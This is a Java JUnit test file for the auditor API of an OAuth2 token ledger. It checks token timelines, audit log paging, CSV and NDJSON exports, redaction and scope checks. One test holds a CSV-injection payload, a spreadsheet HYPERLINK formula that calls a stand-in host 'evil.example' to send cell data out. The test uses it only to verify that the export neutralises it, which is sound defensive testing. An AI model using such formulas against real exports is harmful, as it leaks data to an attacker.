package io.tokenledger.app.ledger;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.oauth2.sdk.AuthorizationCode;
import com.nimbusds.oauth2.sdk.pkce.CodeVerifier;
import com.nimbusds.oauth2.sdk.token.Tokens;
import io.tokenledger.app.support.CodeFlowTestBase;
import io.tokenledger.app.support.LedgerClient;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** A scripted scenario (issue, refresh, revoke, code reuse) and the exact timelines the auditor API gives. */
class AuditorApiTest extends CodeFlowTestBase {

    private final ObjectMapper json = new ObjectMapper();
    private String auditor;
    private String first;
    private String clientId;
    private Instant beforeIssue;
    private Instant afterIssue;
    private Instant afterRotation;
    private Instant afterRevoke;

    @BeforeAll
    void script() throws InterruptedException {
        auditor = adminToken();
        clientId = webApp.getID().getValue();
        beforeIssue = pause();
        Tokens issued = tokens(new CodeVerifier());
        first = tokenId(issued.getAccessToken().getValue());
        afterIssue = pause();
        Tokens second = success(client.refresh(issued.getRefreshToken(), null));
        Tokens third = success(client.refresh(second.getRefreshToken(), null));
        afterRotation = pause();
        ledger.revoke(webAppAuth, third.getRefreshToken().getValue());
        afterRevoke = pause();
        awaitAuditLogCaughtUp();
    }

    @Test
    void aGrantTokensHistoryIsItsGrantsStreamInOrder() {
        JsonNode page = get("/ledger/tokens/" + first + "/history");

        assertThat(types(page.get("items"))).containsExactly("AuthorizationCodeIssued", "AuthorizationCodeRedeemed",
                "RefreshTokenRotated", "RefreshTokenRotated", "GrantRevoked");
        JsonNode revoked = page.get("items").get(4);
        assertThat(revoked.at("/payload/reason").asText()).isEqualTo("GRANT_REVOKED_BY_CLIENT");
        assertThat(revoked.at("/payload/actor/id").asText()).isEqualTo(clientId);
        assertThat(revoked.at("/payload/token_ids").isMissingNode()).isTrue();
        assertThat(revoked.at("/payload/tokenIds")).hasSize(3);
        assertThat(revoked.at("/metadata/requestId").asText()).isNotBlank();
        assertThat(page.toString()).doesNotContain("sha256:").doesNotContain("Hash");
    }

    @Test
    void theTokensStateAtEachInstantComesFromTheEvents() {
        assertThat(get("/ledger/tokens/" + first + "?asOf=" + beforeIssue).get("status").asText()).isEqualTo("not_issued");
        assertThat(get("/ledger/tokens/" + first + "?asOf=" + afterIssue).get("status").asText()).isEqualTo("active");
        JsonNode rotated = get("/ledger/tokens/" + first + "?asOf=" + afterRotation);
        assertThat(rotated.get("status").asText()).as("its access token outlives the rotation").isEqualTo("active");
        assertThat(rotated.get("refresh_retired_at").isNull()).isFalse();
        JsonNode revoked = get("/ledger/tokens/" + first + "?asOf=" + afterRevoke);
        assertThat(revoked.get("status").asText()).isEqualTo("revoked");
        assertThat(revoked.get("revocation_reason").asText()).isEqualTo("GRANT_REVOKED_BY_CLIENT");
        assertThat(revoked.get("revoked_by").asText()).isEqualTo("client:" + clientId);
        assertThat(revoked.get("user_id").asText()).isEqualTo(
                jdbc.queryForObject("SELECT user_id FROM users WHERE username = ?", String.class, USER));
    }

    @Test
    void theTokensOfAClientActiveAtAnInstant() {
        assertThat(tokenIds(get("/ledger/clients/" + clientId + "/tokens?activeAt=" + afterIssue))).containsExactly(first);
        assertThat(get("/ledger/clients/" + clientId + "/tokens?activeAt=" + afterRotation)).hasSize(3);
        assertThat(get("/ledger/clients/" + clientId + "/tokens?activeAt=" + afterRevoke)).isEmpty();
    }

    @Test
    void aReplayedCodeShowsInItsTokensTimeline() {
        CodeVerifier verifier = new CodeVerifier();
        AuthorizationCode code = code(verifier);
        String token = tokenId(success(client.exchange(code, verifier)).getAccessToken().getValue());
        client.exchange(code, verifier);

        assertThat(types(get("/ledger/tokens/" + token + "/history").get("items"))).containsExactly(
                "AuthorizationCodeIssued", "AuthorizationCodeRedeemed", "AuthorizationCodeReplayed", "GrantRevoked");
        assertThat(get("/ledger/tokens/" + token).get("revocation_reason").asText()).isEqualTo("CODE_REPLAYED");
    }

    @Test
    void aClientCredentialsTokenHasItsOwnStream() {
        var own = ledger.register(auditor, "read");
        String value = ledger.accessToken(LedgerClient.basic(own), "read");
        String token = ledger.introspect(LedgerClient.basic(own), value).getJWTID().getValue();
        ledger.revoke(LedgerClient.basic(own), value);

        assertThat(types(get("/ledger/tokens/" + token + "/history").get("items")))
                .containsExactly("TokenIssued", "TokenRevoked");
        assertThat(types(get("/ledger/clients/" + own.getID().getValue() + "/history").get("items")))
                .containsExactly("ClientRegistered", "RegistrationAccessTokenIssued");
    }

    @Test
    void theAuditLogFiltersAndPagesByCursor() {
        JsonNode firstPage = get("/ledger/audit?client_id=" + clientId + "&limit=2");
        JsonNode secondPage = get("/ledger/audit?client_id=" + clientId + "&limit=2&after=" + firstPage.get("next").asText());

        List<String> types = new ArrayList<>(types(firstPage.get("items"), "event_type"));
        types.addAll(types(secondPage.get("items"), "event_type"));
        assertThat(types).as("the user's consent to the third-party client comes before its first code")
                         .startsWith("ClientRegistered", "RegistrationAccessTokenIssued", "ConsentGranted",
                                 "AuthorizationCodeIssued");
        assertThat(get("/ledger/audit?token_id=" + first + "&event_type=AuthorizationCodeRedeemed").get("items")).hasSize(1);
        assertThat(get("/ledger/audit?from=" + afterRevoke + "&client_id=" + clientId).get("items")).isEmpty();
    }

    /** The events that end a code-flow token name it only in a list, or not at all: the filter still finds them. */
    @Test
    void theAuditLogOfATokenHoldsItsWholeHistory() {
        List<String> history = types(get("/ledger/tokens/" + first + "/history").get("items"));

        assertThat(types(get("/ledger/audit?token_id=" + first).get("items"), "event_type")).isEqualTo(history)
                .endsWith("GrantRevoked");
    }

    @Test
    void aHistoryPagesByCursorFromItsFirstEventToItsLast() {
        List<String> paged = new ArrayList<>();
        String cursor = null;
        for (int page = 0; page < 10; page++) {
            JsonNode answer = get("/ledger/tokens/" + first + "/history?limit=2" + (cursor == null ? "" : "&after=" + cursor));
            paged.addAll(types(answer.get("items")));
            cursor = answer.get("next").isNull() ? null : answer.get("next").asText();
            if (cursor == null) {
                break;
            }
        }

        assertThat(cursor).as("the last page says so").isNull();
        assertThat(paged).containsExactly("AuthorizationCodeIssued", "AuthorizationCodeRedeemed", "RefreshTokenRotated",
                "RefreshTokenRotated", "GrantRevoked");
        assertThat(types(get("/ledger/tokens/" + first + "/history?limit=1&after=0").get("items")))
                .as("after the first event (sequence 0) comes the second").containsExactly("AuthorizationCodeRedeemed");
    }

    @Test
    void usersAndGrantsHaveHistoriesToo() {
        String userId = jdbc.queryForObject("SELECT user_id FROM users WHERE username = ?", String.class, USER);
        String grantId = jdbc.queryForObject("SELECT grant_id::text FROM tokens WHERE token_id = ?::uuid", String.class,
                first);

        assertThat(types(get("/ledger/users/" + userId + "/history").get("items"))).startsWith("UserRegistered");
        assertThat(types(get("/ledger/grants/" + grantId + "/history").get("items")))
                .isEqualTo(types(get("/ledger/tokens/" + first + "/history").get("items")));
        assertThat(raw("/ledger/users/no-such-user/history", "application/json").statusCode()).isEqualTo(404);
    }

    @Test
    void theWholeAuditLogStreamsAsNdjsonAndCsv() throws Exception {
        long rows = jdbc.queryForObject("SELECT count(*) FROM audit_log", Long.class);

        String ndjson = raw("/ledger/audit", "application/x-ndjson").body();
        String csv = raw("/ledger/audit", "text/csv").body();

        assertThat(ndjson.lines()).hasSize((int) rows);
        assertThat(json.readTree(ndjson.lines().findFirst().orElseThrow()).get("position").asLong()).isPositive();
        assertThat(csv.lines()).hasSize((int) rows + 1);
        assertThat(csv.lines().findFirst().orElseThrow()).startsWith("position,occurred_at,event_type");
    }

    /**
     * Issue 18, item 16: a user agent an attacker chose, recorded with a refused request, is exported as text a
     * spreadsheet will not run (OWASP CSV injection): a cell that begins with = + - @ tab or CR gets a leading quote.
     */
    @Test
    void anAttackersUserAgentIsNotAFormulaInTheCsvExport_OWASPCsvInjection() {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        ledger.raw(HttpRequest.newBuilder(ledger.uri("/oauth2/token")).header("User-Agent", formula)
                              .header("Content-Type", "application/x-www-form-urlencoded")
                              .POST(HttpRequest.BodyPublishers.ofString("grant_type=client_credentials&client_id=x")));
        awaitAuditLogCaughtUp();

        String csv = raw("/ledger/audit?event_type=ClientAuthenticationFailed", "text/csv").body();

        assertThat(csv).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
    }

    /** The API redacts in Java, the analysts' view in SQL: one rule, so the same details for every event. */
    @Test
    void analystsAndAuditorsSeeTheSameDetails() {
        Map<Long, JsonNode> fromApi = new HashMap<>();
        for (String line : raw("/ledger/audit", "application/x-ndjson").body().lines().toList()) {
            JsonNode entry = readTree(line);
            fromApi.put(entry.get("position").asLong(), entry.get("details"));
        }
        Map<Long, JsonNode> fromView = new HashMap<>();
        jdbc.query("SELECT global_index, details::text FROM audit_log", rs -> {
            fromView.put(rs.getLong(1), readTree(rs.getString(2)));
        });

        // Personal values (issue 25): the view says they are encrypted, the API reads them (here no key is destroyed).
        fromView.forEach((position, details) -> details.properties().stream()
                .filter(field -> field.getValue().asText().equals("[encrypted]")).toList()
                .forEach(field -> {
                    assertThat(fromApi.get(position).path(field.getKey()).asText()).doesNotStartWith("enc:v1:")
                                                                                  .isNotEqualTo("[erased]");
                    ((ObjectNode) details).remove(field.getKey());
                    ((ObjectNode) fromApi.get(position)).remove(field.getKey());
                }));
        assertThat(fromView).isEqualTo(fromApi).isNotEmpty();
        assertThat(fromView.values().toString()).contains("\"grantType\"").doesNotContain("Hash\"");
    }

    @Test
    void aTokenIdThatIsNoUuidMatchesNothing() {
        assertThat(get("/ledger/audit?token_id=not-a-uuid").get("items")).isEmpty();
    }

    @Test
    void theLedgerApiNeedsTheAuditScope() {
        var client = ledger.register(auditor, "read");
        String token = ledger.accessToken(LedgerClient.basic(client), "read");
        var response = ledger.raw(HttpRequest.newBuilder(ledger.uri("/ledger/audit"))
                                             .header("Authorization", "Bearer " + token).GET());

        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(raw("/ledger/tokens/" + first + "?asOf=yesterday", "application/json").statusCode()).isEqualTo(400);
    }

    /** A verification in the background: 202 with where to follow it, its progress, then the same result. */
    @Test
    void aVerificationInTheBackgroundIsFollowedToItsResult() {
        HttpResponse<String> started = ledger.manage(auditor, "POST", "/ledger/verifications", null);

        assertThat(started.statusCode()).as(started.body()).isEqualTo(202);
        String location = started.headers().firstValue("Location").orElseThrow();
        assertThat(location).startsWith("/ledger/verifications/");
        JsonNode first = readTree(started.body());
        assertThat(first.get("events_total").asLong()).isPositive();
        JsonNode done = await().atMost(Duration.ofSeconds(30)).until(() -> get(location),
                progress -> !"running".equals(progress.get("state").asText()));
        assertThat(done.get("state").asText()).isEqualTo("done");
        assertThat(done.get("events_done").asLong()).isEqualTo(first.get("events_total").asLong());
        assertThat(done.at("/result/status").asText()).isEqualTo("OK");
        assertThat(raw("/ledger/verifications/" + UUID.randomUUID(), "application/json").statusCode())
                .isEqualTo(404);
        String noAudit = ledger.accessToken(LedgerClient.basic(ledger.register(adminToken(), "read")), "read");
        assertThat(ledger.manage(noAudit, "POST", "/ledger/verifications", null).statusCode()).isEqualTo(403);
    }

    private String tokenId(String accessToken) {
        return ledger.introspect(webAppAuth, accessToken).getJWTID().getValue();
    }

    private JsonNode get(String path) {
        HttpResponse<String> response = raw(path, "application/json");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return readTree(response.body());
    }

    private JsonNode readTree(String text) {
        try {
            return json.readTree(text);
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    private HttpResponse<String> raw(String path, String accept) {
        return ledger.raw(HttpRequest.newBuilder(ledger.uri(path)).header("Authorization", "Bearer " + auditor)
                                     .header("Accept", accept).GET());
    }

    private static List<String> types(JsonNode items) {
        List<String> types = new ArrayList<>();
        items.forEach(item -> types.add(item.get("type").asText().substring(item.get("type").asText().lastIndexOf('.') + 1)));
        return types;
    }

    private static List<String> types(JsonNode items, String field) {
        List<String> types = new ArrayList<>();
        items.forEach(item -> types.add(item.get(field).asText()));
        return types;
    }

    private static List<String> tokenIds(JsonNode states) {
        List<String> ids = new ArrayList<>();
        states.forEach(state -> ids.add(state.get("token_id").asText()));
        return ids;
    }

    private static Instant pause() throws InterruptedException {
        Thread.sleep(20);
        Instant now = Instant.now();
        Thread.sleep(20);
        return now;
    }
}
